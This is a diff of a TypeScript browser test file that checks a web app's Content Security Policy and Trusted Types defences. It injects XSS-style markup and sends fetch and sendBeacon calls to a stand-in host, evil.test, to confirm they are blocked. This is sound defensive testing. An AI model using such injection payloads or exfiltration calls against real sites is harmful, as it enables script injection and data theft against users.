@@ -1,34 +1,26 @@
-import type { Browser, Page } from 'playwright-core';
-import { afterAll, beforeAll, expect, test } from 'vitest';
-import { openBrowser, openPage } from './browser.ts';
-import { runSchool, type RunningSchool } from './running-school.ts';
-import { comeAlive } from './scenes/scene.ts';
+import type { Page } from '@playwright/test';
+import { expect, test, type NewPage } from './fixtures.ts';
+import { hydrate } from './scenes/scene.ts';
 
-// Not openForThisFile: here pages are made to break their policy.
-let browser: Browser;
-let school: RunningSchool;
-beforeAll(async () => {
-  [school, browser] = await Promise.all([runSchool(), openBrowser()]);
-});
-afterAll(async () => {
-  await browser.close();
-  await school.close();
-});
+test.use({ mayBreakPolicy: true });
 
 const evil = 'http://evil.test';
 
-/** What has run or been refused, as the page itself saw it. */
+/** The injected code that ran and the directives that blocked something, as the page recorded them. */
 interface Seen {
   ran: unknown[];
   refused: string[];
 }
 
 /**
- * Opens a page into whose markup somebody has brought more, as a hole in the server would.
- * @returns also what another site was asked for
+ * Opens a page with injected markup, as an XSS hole in the server would deliver it.
+ * @returns also the requests that reached the other site
  */
-async function openWith(markup: string): Promise<{ page: Page; seen: () => Promise<Seen>; asked: string[] }> {
-  const { page } = await openPage(browser, school.url);
+async function openWith(
+  newPage: NewPage,
+  markup: string,
+): Promise<{ page: Page; seen: () => Promise<Seen>; asked: string[] }> {
+  const { page } = await newPage();
   const asked: string[] = [];
   await page.addInitScript(() => {
     const seen: Seen = { ran: [], refused: [] };
@@ -50,8 +42,10 @@ async function openWith(markup: string): Promise<{ page: Page; seen: () => Promi
   return { page, asked, seen: () => page.evaluate(() => (globalThis as unknown as { seen: Seen }).seen) };
 }
 
-test('markup that is not the school’s runs nothing, loads nothing and carries nothing away', async () => {
-  const { page, seen, asked } = await openWith(`
+test('injected markup runs nothing, loads nothing and sends nothing', async ({ newPage }) => {
+  const { page, seen, asked } = await openWith(
+    newPage,
+    `
     <script>seen.ran.push('inline')</script>
     <img src="/favicon.ico" onload="seen.ran.push('handler')">
     <script src="${evil}/a.js"></script>
@@ -62,8 +56,9 @@ test('markup that is not the school’s runs nothing, loads nothing and carries 
     <iframe src="${evil}/"></iframe>
     <object data="${evil}/a.swf"></object>
     <base href="${evil}/">
-    <a id="go" href="javascript:seen.ran.push('link')">Go</a>`);
-  await comeAlive(page);
+    <a id="go" href="javascript:seen.ran.push('link')">Go</a>`,
+  );
+  await hydrate(page);
   await page.evaluate((address) => {
     fetch(address).catch(() => {});
     navigator.sendBeacon(address, 'typed');
@@ -91,13 +86,12 @@ test('markup that is not the school’s runs nothing, loads nothing and carries 
   await expect.poll(async () => (await seen()).refused).toContain('form-action');
   expect((await seen()).ran).toEqual([]);
   expect(asked).toEqual([]);
-  await page.context().close();
 });
 
-test('a text becomes neither markup nor script (Trusted Types)', async () => {
-  const { page } = await openPage(browser, school.url, { serviceWorkers: 'allow' });
+test('text cannot become markup or script (Trusted Types)', async ({ newPage }) => {
+  const { page } = await newPage({ serviceWorkers: 'allow' });
   await page.goto('/about');
-  await comeAlive(page);
+  await hydrate(page);
   const works = await page.evaluate(async () => {
     interface Policies {
       createPolicy(name: string, rules: object): void;
@@ -113,15 +107,15 @@ test('a text becomes neither markup nor script (Trusted Types)', async () => {
       'script text': () => (document.createElement('script').text = '1'),
       'script address': () => (document.createElement('script').src = '/assets/a.js'),
       'event handler': () => document.body.setAttribute('onclick', '1'),
-      // oxlint-disable-next-line eslint/no-eval -- what must not work
+      // oxlint-disable-next-line eslint/no-eval -- the test expects that it fails
       eval: () => globalThis.eval('1'),
-      // oxlint-disable-next-line typescript/no-implied-eval -- what must not work
+      // oxlint-disable-next-line typescript/no-implied-eval -- the test expects that it fails
       Function: () => new Function('1')(),
       'another worker': () => navigator.serviceWorker.register('/assets/a.js'),
       'another policy': () => trustedTypes.createPolicy('mine', letAll),
-      'the policy anew': () => trustedTypes.createPolicy('default', letAll),
+      'the default policy again': () => trustedTypes.createPolicy('default', letAll),
     };
-    // What a test evaluates may evaluate: what comes later may as little as the page.
+    // Playwright's own evaluation may use eval. Code that runs later is restricted like the page's.
     await new Promise((resolve) => setTimeout(resolve));
     const found: string[] = [];
     for (const [name, attempt] of Object.entries(attempts)) {
@@ -133,17 +127,15 @@ test('a text becomes neither markup nor script (Trusted Types)', async () => {
     return found;
   });
   expect(works).toEqual([]);
-  await page.context().close();
 });
 
-test('what a page was refused is told to the school, without saying who read what', async () => {
-  const { page } = await openWith(`<img src="${evil}/a.gif?who=asha">`);
+test('a CSP violation is reported without personal data', async ({ newPage, school }) => {
+  await openWith(newPage, `<img src="${evil}/a.gif?who=asha">`);
   const metrics = () => fetch(`${school.url}/metrics`).then((reply) => reply.text());
   await expect.poll(metrics).toMatch(/browser_refusals_total\{directive="img-src"\} [1-9]/);
-  await page.context().close();
 });
 
-test('styles written on elements hold before the page’s script, and are the elements’ own after it', async () => {
+test('style attributes apply before hydration and are on their elements after it', async ({ newPage }) => {
   const looks = (page: Page) =>
     page.evaluate(() =>
       [...document.querySelectorAll<HTMLElement>('[data-style]')].map((element) => {
@@ -153,20 +145,18 @@ test('styles written on elements hold before the page’s script, and are the el
         return [...style].map((name) => `${name}: ${getComputedStyle(element).getPropertyValue(name)}`);
       }),
     );
-  const { page } = await openPage(browser, school.url, { reducedMotion: 'reduce' });
-  const { page: bare } = await openPage(browser, school.url, {
+  const { page } = await newPage({ reducedMotion: 'reduce' });
+  const { page: bare } = await newPage({
     reducedMotion: 'reduce',
     javaScriptEnabled: false,
   });
   for (const path of ['/painting', '/Reviews']) {
     await bare.goto(path);
     await page.goto(path);
-    await comeAlive(page);
+    await hydrate(page);
     const before = await looks(bare);
     expect(before.flat().length).toBeGreaterThan(8);
     expect(await looks(page)).toEqual(before);
-    expect(await page.locator('style[data-attributes]').count()).toBe(0);
+    await expect(page.locator('style[data-attributes]')).toHaveCount(0);
   }
-  await bare.context().close();
-  await page.context().close();
 });
